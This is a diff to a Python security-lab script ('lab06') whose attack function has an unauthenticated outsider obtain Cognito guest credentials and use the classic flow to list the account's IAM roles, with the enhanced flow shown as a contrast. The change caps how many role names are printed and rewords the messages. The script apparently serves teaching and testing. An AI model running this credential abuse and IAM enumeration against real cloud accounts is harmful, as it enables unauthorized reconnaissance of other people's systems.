@@ -30,6 +30,7 @@ LIST_ROLES = {
     "Statement": [{"Sid": "Lab06GuestsListRoles", "Effect": "Allow", "Action": "iam:ListRoles", "Resource": "*"}],
 }
 SESSION_NAME = "lab06-guest"
+MAX_SHOWN = 12  # role names printed; ListRoles answers a page of up to 100
 
 
 def _pool_config(*, deployment: Deployment, classic: bool) -> dict[str, Any]:
@@ -80,13 +81,15 @@ def attack(*, outsider: Outsider) -> AttackResult:
     role_arn = _role_arn_of_session(outsider.client("sts", enhanced).get_caller_identity()["Arn"])
     outsider.got(f"the guest role {role_arn}")
 
-    outsider.step("IAM ListRoles with the enhanced-flow credentials (the role allows it)")
+    # Not the attack: the contrast that shows what the classic flow skips.
+    outsider.step("IAM ListRoles with these enhanced-flow credentials")
     try:
         outsider.client("iam", enhanced).list_roles(MaxItems=1)
-        outsider.report("   allowed: this guest role's permissions reach IAM even through the enhanced flow")
+        outsider.report("   allowed: this guest session reaches IAM even through the enhanced flow")
     except ClientError as exc:
         outsider.report(
-            f"   refused: {exc.response['Error'].get('Code')}: the enhanced flow's scope-down leaves IAM out of every guest session"
+            f"   refused: {exc.response['Error'].get('Code')}. In the enhanced flow Cognito scopes every guest session "
+            "down to a list of services that leaves IAM out, whatever the role allows"
         )
 
     identity = outsider.client("cognito-identity")
@@ -120,7 +123,8 @@ def attack(*, outsider: Outsider) -> AttackResult:
         roles = [role["RoleName"] for role in outsider.client("iam", classic).list_roles()["Roles"]]
     except ClientError as exc:
         return refused(exc)
-    outsider.got(f"{len(roles)} role names: {', '.join(roles)}")
+    shown = ", ".join(roles[:MAX_SHOWN]) + (f" and {len(roles) - MAX_SHOWN} more" if len(roles) > MAX_SHOWN else "")
+    outsider.got(f"the names of {len(roles)} roles in the account: {shown}")
     return AttackResult(succeeded=True, obtained=(session_arn, *roles))
 
 
